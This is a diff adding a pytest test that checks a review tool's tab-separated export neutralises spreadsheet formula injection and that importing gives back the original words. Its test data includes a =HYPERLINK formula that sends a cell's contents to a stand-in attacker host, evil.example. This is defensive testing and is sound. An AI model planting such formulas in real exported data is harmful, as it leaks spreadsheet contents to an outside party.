@@ -4,6 +4,7 @@ selection, never guessed."""
 
 from __future__ import annotations
 
+import csv
 import shutil
 from pathlib import Path
 
@@ -194,3 +195,23 @@ def test_the_cli_round_trip(reviewed, tmp_path, capsys):
     assert newest(fresh) == newest(built.results)
     assert main(["review", "--results", str(fresh), "--import-raven", str(tmp_path / "nope.txt")]) == 2
     assert "file not found" in capsys.readouterr().err
+
+
+def test_reviewers_words_are_neutralised_in_the_table_and_come_back_as_given(reviewed, tmp_path):
+    """A reviewer named `@ana` and a correction `=HYPERLINK(...)`: the exported table has no cell
+    a spreadsheet would run, and importing it records the words as they were given."""
+    built, fresh = reviewed
+    hostile = [("rec-mono.fp1.0.2", "wren", "other", '=HYPERLINK("http://evil.example/?x="&A1)', "@ana"),
+               ("rec-stereo.fp1.2.4", "wren", "wrong", None, "-bea")]
+    add(built.results, hostile)
+    table = tmp_path / "reviews.selections.txt"
+    export_reviews(str(built.results), table)
+    with open(table, newline="", encoding="utf-8") as fh:  # as a spreadsheet parses it
+        cells = [cell for row in csv.reader(fh, delimiter="\t") for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1)" in cells and "'@ana" in cells
+    imported = import_reviews(str(fresh), table, reviewer="nobody")
+    assert imported.problems == []
+    assert newest(fresh) == newest(built.results)
+    assert ('=HYPERLINK("http://evil.example/?x="&A1)', "@ana") in {
+        (r["corrected_label"], r["reviewer"]) for r in reviews_rows(fresh)}
